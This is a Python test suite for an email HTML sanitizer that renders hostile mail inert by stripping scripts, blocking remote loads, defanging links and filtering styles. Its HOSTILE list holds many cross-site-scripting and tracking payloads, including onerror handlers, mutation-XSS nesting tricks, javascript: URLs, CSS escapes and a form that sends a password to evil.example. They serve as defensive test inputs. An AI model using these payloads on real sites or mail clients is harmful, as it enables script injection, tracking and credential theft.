"""markup: HTML of hostile mail as a document that can do nothing."""

import base64
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trap.view import parts
from trap.view.markup import MAX_DEPTH, MAX_DOCUMENT, document, pictures, shallow

PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
LOADING = {
    "src",
    "srcset",
    "href",
    "action",
    "background",
    "poster",
    "data",
    "formaction",
    "ping",
    "xlink:href",
}
DEAD = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "video",
}


class Reader(HTMLParser):
    """Notes every element and attribute behind the document's own head."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def body(source: str, shown: dict[str, str] | None = None) -> str:
    return document(source, shown).partition("<body>\n")[2]


def inert(source: str, shown: dict[str, str] | None = None) -> None:
    """Nothing in the document could run, load, send, or lead anywhere."""
    reader = Reader()
    reader.feed(body(source, shown))
    for tag, attributes in reader.tags:
        assert tag not in DEAD
        for name, value in attributes.items():
            assert not name.startswith("on")
            if name in LOADING:
                assert (tag, name) == ("img", "src")
                assert str(value).startswith("data:image/")
            if name == "style":
                assert not re.search(r"url|expression|@|\\|/\*|fixed|absolute|image|var\(", str(value), re.I)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.gif srcset='http://evil.example/2.gif 2x'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href=' http://evil.example/' target=_top ping=http://evil.example/>x</a>",
    "<a lang='\"' href='http://evil.example/'>x</a>",
    "<form action=http://evil.example/><input name=password><button formaction=http://x.example/>go</form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<p style='background:url(http://evil.example/x)'>x",
    "<p style='background-image:image-set(\"http://evil.example/x\" 1x)'>x",
    "<p style='color:expression(alert(1))'>x",
    "<p style='b\\61ckground:u\\72l(//evil.example)'>x",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x",
    "<p style='font-family:\"x;background:url(//evil.example)\"'>x",
    "<p style='width:calc(1px + var(--x));color:red'>x",
    "<table background=http://evil.example/x><td background='http://evil.example/x'>x",
    "<body background=http://evil.example/x onload=alert(1)>x",
    "<video src=http://evil.example/x poster=http://evil.example/y autoplay></video>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<a href='http://evil.example/\"onmouseover=\"alert(1)'>x</a>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "<p id=x name=y class=z>x</p><span class=picture title=mine>x</span>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_is_left_that_runs_loads_or_leads_away(source: str) -> None:
    inert(source)
    inert(source, {})
    inert(f"<table><tr><td>{source}<p><b>{source}")


@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "<p ", "style=", "<a href=", "</", "&lt;"])))
def test_nor_of_any_mixture_of_it(pieces: list[str]) -> None:
    inert("".join(pieces))


@given(st.text())
def test_any_text_makes_a_document(text: str) -> None:
    assert document(text).endswith("</body></html>\n")


def test_the_document_forbids_everything_by_itself() -> None:
    head = document("<p>hello").partition("<body>")[0]
    assert "default-src 'none'" in head
    assert "form-action 'none'" in head


def test_a_link_can_be_read_but_not_followed() -> None:
    assert (
        body("<a href='https://evil.example/x?a=1&b=2' title=nice>bank</a>")
        .strip()
        .startswith('<a title="hxxps://evil[.]example/x?a=1&amp;b=2">bank</a>')
    )


def test_a_picture_becomes_words() -> None:
    shown = body("<img src='http://evil.example/x.gif' alt='Your bank' width=600>")
    assert '<span class="picture" title="hxxp://evil[.]example/x.gif">[picture: Your bank]</span>' in shown
    assert "[picture from evil[.]example]" in body("<img src='http://evil.example/x.gif'>")
    assert "[picture]" in body("<img src='data:x'>")


def test_pictures_that_came_with_the_message_are_shown_when_asked_for() -> None:
    data = base64.b64encode(PNG).decode()
    mail = (
        "Content-Type: multipart/related; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/html\r\n\r\n<img src=cid:logo@x width=20>\r\n"
        f"--b\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{data}\r\n"
        "--b\r\nContent-Type: image/png\r\nContent-ID: <evil@x>\r\n\r\n<svg onload=alert(1)>\r\n--b--\r\n"
    ).encode()
    found = pictures(parts.tree(mail), mail)
    assert list(found) == ["logo@x"]
    source = f"<img src=cid:logo@x width=20><img src='data:image/gif;base64,{data}'><img src=cid:evil@x>"
    shown = body(source, found)
    assert shown.count(f'src="data:image/png;base64,{data}"') == 2
    assert 'width="20"' in shown
    assert shown.count('class="picture"') == 1
    assert "data:image" not in body(source)


def test_looks_are_kept_as_far_as_they_are_harmless() -> None:
    shown = body('<td style="color: RED; background: #fff url(x); padding:1px 2px" bgcolor="#eee" onclick=x>')
    assert "<td" not in shown  # a cell without a table is none
    shown = body('<p style="color: RED; background: #fff url(x); padding:1px 2px" onclick=x>')
    assert '<p style="color:RED;padding:1px 2px">' in shown


def test_elements_too_deep_are_left_out_and_their_text_stays() -> None:
    assert shallow("<div>" * 1000 + "x").count("<div>") == MAX_DEPTH
    assert shallow("<div>x</div>" * 1000) == "<div>x</div>" * 1000
    assert "hello" in body("<div>" * 100_000 + "hello")


def test_a_document_too_long_is_cut_where_no_tag_is() -> None:
    shown = document("<p title=x>" + "<b>&lt;</b>" * (MAX_DOCUMENT // 8))
    assert "too long to be shown" in shown
    assert len(shown) < 2 * MAX_DOCUMENT


def test_characters_that_turn_text_are_written_out() -> None:
    assert "invoice⟨U+202E⟩fdp.exe" in body("<p>invoice&#x202e;fdp.exe")
